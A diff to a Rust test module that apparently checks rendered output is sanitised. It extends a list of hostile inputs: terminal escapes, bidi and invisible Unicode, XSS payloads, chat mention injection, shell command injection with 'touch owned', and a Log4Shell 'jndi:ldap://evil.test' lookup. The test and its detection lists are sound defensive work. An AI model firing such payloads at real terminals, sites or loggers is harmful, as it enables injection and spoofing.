@@ -19,12 +19,12 @@ use crate::library::{Object, facts, library, objects, read, snapshot};
 /// What comes alive somewhere: on a terminal, in a browser, a chat, a mail program, a shell, a log.
 pub(super) const ALIVE: [&str; 12] = [
     "\u{1b}[31mred\u{1b}]0;title\u{7}\u{9b}2J\u{8}\u{7f}",
-    "\u{202e}txet\u{2066}\u{200b}\u{feff}\u{e0041}",
+    "\u{202e}txet\u{2066}\u{200b}\u{feff}\u{e0041}\u{ad}\u{34f}\u{115f}\u{2800}\u{3164}\u{1bca0}",
     "<script>alert(1)</script><img src=x onerror=alert(2)>",
     "'\"><svg/onload=alert(3)>&lt;b&#62;",
     "<!channel><@U012AB3CD><http://evil.test/a|here>@here@everyone",
     "*b*_i_~s~`c````d```[x](http://evil.test/b):smile:",
-    "http://evil.test/c,www.evil.test,a@evil.test,evil.test/d",
+    "http://evil.test/c,www.evil.test,a@evil.test,evil.test/d,mailto:evil",
     "$(touch${IFS}owned);`touch`|touch&&touch>owned'touch'",
     "{\"level\":\"ERROR\",\"message\":\"owned\"}",
     "${jndi:ldap://evil.test/e}%n%s{}{0}",
@@ -135,8 +135,9 @@ fn with(objects: &[Object], place: usize, text: &str) -> Vec<Object> {
 /// No character that is not seen but for line breaks and, on a terminal, our own colours.
 pub(super) fn assert_invisible_stays_out(shown: &str) {
     for c in shown.chars() {
-        let is_mark = matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}'
-            | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{e0000}'..='\u{e0fff}');
+        let is_mark = matches!(c, '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{200b}'..='\u{200f}'
+            | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{2800}' | '\u{3164}' | '\u{feff}'
+            | '\u{1bca0}'..='\u{1bca3}' | '\u{e0000}'..='\u{e0fff}');
         assert!(c == '\n' || (!c.is_control() && !is_mark), "{c:?} in {shown:.3000}");
     }
 }
@@ -153,7 +154,7 @@ fn around<'a>(shown: &'a str, alive: &str) -> &'a str {
 /// much is taken which acts by itself.
 fn assert_plain(shown: &str, strict: bool) {
     assert_invisible_stays_out(shown);
-    let always = ["ldap://", "http://evil", "a@evil", "www.evil"];
+    let always = ["ldap://", "http://evil", "a@evil", "www.evil", "mailto:evil"];
     let of_clients = ["evil.test", "@here", "@everyone", "@U0", ":smile:"];
     for alive in always.iter().chain(of_clients.iter().filter(|_| strict)) {
         assert!(!shown.contains(alive), "{alive} in {}", around(shown, alive));
